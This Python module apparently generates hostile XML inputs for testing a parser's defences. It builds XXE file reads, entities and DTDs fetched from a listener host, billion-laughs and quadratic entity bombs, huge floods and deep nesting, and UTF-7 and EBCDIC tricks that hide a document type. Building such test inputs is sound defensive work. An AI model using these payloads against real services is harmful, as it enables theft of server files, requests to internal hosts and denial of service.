"""What attackers make of an XML document that is in order: each attack takes the document and gives bytes."""

import re

MIB = 1 << 20


def root_of(document):
    return re.match(r"<([A-Za-z]+)", document).group(1)


def with_text(document, text):
    """The document with this at the end of its first text, where an entity would show; in its root if it has none."""
    found, count = re.subn(r"(?<=[^>])(?=</)", lambda _: text, document, count=1)
    return found if count else with_elements(document, text)


def with_elements(document, elements):
    """The document with this within its root, before everything else."""
    return re.sub(r"^<[^>]*>", lambda found: found.group() + elements, document)


def typed(document, subset, text="&x;"):
    """The document with a document type of this internal subset, and an entity of it."""
    return f"<!DOCTYPE {root_of(document)} [{subset}]>{with_text(document, text)}"


def external_entity(document, secret):
    return typed(document, f'<!ENTITY x SYSTEM "file://{secret}">')


def entity_from_a_host(document, listener):
    return typed(document, f'<!ENTITY x SYSTEM "http://{listener}/x">')


def parameter_entity(document, listener):
    return typed(document, f'<!ENTITY % p SYSTEM "http://{listener}/p.dtd"> %p;')


def parameter_entity_of_a_file(document, secret):
    return typed(document, f'<!ENTITY % p SYSTEM "file://{secret}"> %p;', "")


def external_subset(document, secret):
    return f'<!DOCTYPE {root_of(document)} SYSTEM "file://{secret}">{document}'


def public_subset(document, listener):
    return f'<!DOCTYPE {root_of(document)} PUBLIC "-//X//Y" "http://{listener}/x.dtd">{document}'


def billion_laughs(document):
    names = "abcdefghij"
    entities = '<!ENTITY a "laughter">'
    entities += "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip(names, names[1:]))
    return typed(document, entities, "&j;")


def quadratic_blow_up(document):
    """One long entity, named many times: no nesting that a limit could see."""
    return typed(document, f'<!ENTITY x "{"x" * 20_000}">', "&x;" * 8_000)


def entities_in_a_ring(document):
    return typed(document, '<!ENTITY x "&y;"><!ENTITY y "&x;">')


def entity_in_an_attribute(document):
    return typed(with_elements(document, '<a b="&x;"/>'), '<!ENTITY x "y">', "")


def document_type_alone(document):
    return f"<!DOCTYPE {root_of(document)}>{document}"


def defaulted_attributes(document):
    return typed(document, f'<!ATTLIST {root_of(document)} a CDATA "b">', "")


def ten_mebibytes_of_text(document):
    return with_text(document, "x" * (10 * MIB))


def ten_mebibytes_of_elements(document):
    return with_elements(document, "<Rule/>" * (10 * MIB // 7))


def ten_mebibytes_of_blanks(document):
    return document + " " * (10 * MIB)


def ten_mebibytes_of_a_comment(document):
    return f"<!--{'x' * (10 * MIB)}-->{document}"


def nested_100_000_deep(document):
    return with_elements(document, "<a>" * 100_000 + "</a>" * 100_000)


def nested_and_never_closed(document):
    return with_elements(document, "<a>" * 300_000)


def many_attributes(count):
    """An element that has them, and that is not closed as it should."""
    attributes = " ".join(f'a{number}=""' for number in range(count))
    return f"<a {attributes}></b>"


def a_hundred_thousand_attributes(document):
    return with_elements(document, many_attributes(100_000))


def attributes_in_lines(document):
    return with_elements(document, many_attributes(80_000).replace("=", "\n=\t").replace(" ", "\r\n"))


def attributes_with_angles(document):
    """Each attribute seems to end the tag to whoever does not know of quotes."""
    attributes = " ".join(f"a{number}='>'" for number in range(80_000))
    return with_elements(document, f"<a {attributes}></b>")


def many_namespaces(document):
    declarations = " ".join(f'xmlns:a{number}="b"' for number in range(60_000))
    return with_elements(document, f"<a {declarations}></b>")


def attributes_in_utf_16(document):
    return with_elements(document, many_attributes(15_000)).encode("utf-16")


def attributes_after_a_comment(document):
    """A quote that opens nothing, before quotes that do: as in the next ones."""
    return with_elements(document, '<!-- " --><a></a>' + many_attributes(80_000))


def attributes_after_a_section(document):
    return with_elements(document, "<![CDATA[ <x y=' ]> ]]]>" + many_attributes(80_000))


def attributes_after_an_instruction(document):
    return with_elements(document, "<?x <y z='> ?>" + many_attributes(80_000))


def attributes_after_a_text(document):
    return with_elements(document, "it's = \"" + many_attributes(80_000))


def attributes_in_utf_7(document):
    attributes = " ".join(f"a{number}+AD0AIgAi-" for number in range(58_000))
    return '<?xml version="1.0" encoding="UTF-7"?>' + with_elements(document, f"<a {attributes}></b>")


def a_name_of_a_mebibyte(document):
    return with_elements(document, f"<{'a' * (MIB - 1000)}></b>")


def a_name_twice_among_attributes(document):
    return with_elements(document, '<a b="1" b="2"/>')


def not_utf_8(document):
    return with_text(document, "@").encode().replace(b"@", b"\xff\xfe")


def overlong_utf_8(document):
    """An angle bracket in two bytes."""
    return document.encode().replace(b"<", b"\xc0\xbc", 1)


def half_a_surrogate(document):
    return with_text(document, "@").encode().replace(b"@", b"\xed\xa0\x80")


def utf_16(document, secret):
    return external_entity(document, secret).encode("utf-16")


def utf_16_without_a_mark(document, secret):
    return ('<?xml version="1.0" encoding="UTF-16"?>' + external_entity(document, secret)).encode("utf-16-be")


def utf_32(document, secret):
    return external_entity(document, secret).encode("utf-32")


def utf_16_in_name_only(document):
    return f'<?xml version="1.0" encoding="UTF-16"?>{document}'.encode() + b"\0"


def utf_7(document, secret):
    """The document type only shows when the rest is read in this encoding."""
    hidden = external_entity(document, secret).replace("<", "+ADw-").replace("!", "+ACE-")
    return b'<?xml version="1.0" encoding="UTF-7"?>' + hidden.encode()


def ebcdic(document, secret):
    return ('<?xml version="1.0" encoding="IBM037"?>' + external_entity(document, secret)).encode("cp037")


def nul_in_a_text(document):
    return with_text(document, "\0")


def nul_in_a_name(document):
    return document.replace("<", "<\0", 1)


def nul_after_the_end(document):
    return document + "\0<more>"


def nul_by_reference(document):
    return with_text(document, "&#0;")


def a_character_beyond_unicode(document):
    return with_text(document, "&#xFFFFFFFFFF;")


def an_entity_that_is_not_declared(document):
    return with_text(document, "&x;")


def a_control_character(document):
    return with_text(document, "\x07")


def cut_off(document):
    return document[:-1]


def two_roots(document):
    return document + document


def a_section_that_does_not_end(document):
    return with_text(document, "<![CDATA[")


ATTACKS = [
    external_entity,
    entity_from_a_host,
    parameter_entity,
    parameter_entity_of_a_file,
    external_subset,
    public_subset,
    billion_laughs,
    quadratic_blow_up,
    entities_in_a_ring,
    entity_in_an_attribute,
    document_type_alone,
    defaulted_attributes,
    ten_mebibytes_of_text,
    ten_mebibytes_of_elements,
    ten_mebibytes_of_blanks,
    ten_mebibytes_of_a_comment,
    nested_100_000_deep,
    nested_and_never_closed,
    a_name_of_a_mebibyte,
    a_name_twice_among_attributes,
    not_utf_8,
    overlong_utf_8,
    half_a_surrogate,
    utf_16,
    utf_16_without_a_mark,
    utf_32,
    utf_16_in_name_only,
    utf_7,
    ebcdic,
    nul_in_a_text,
    nul_in_a_name,
    nul_after_the_end,
    nul_by_reference,
    a_character_beyond_unicode,
    an_entity_that_is_not_declared,
    a_control_character,
    cut_off,
    two_roots,
    a_section_that_does_not_end,
]

# What a parser compares each with each.
MANY_ATTRIBUTES = [
    a_hundred_thousand_attributes,
    attributes_after_a_comment,
    attributes_after_a_section,
    attributes_after_a_text,
    attributes_after_an_instruction,
    attributes_in_lines,
    attributes_in_utf_16,
    attributes_in_utf_7,
    attributes_with_angles,
    many_namespaces,
]
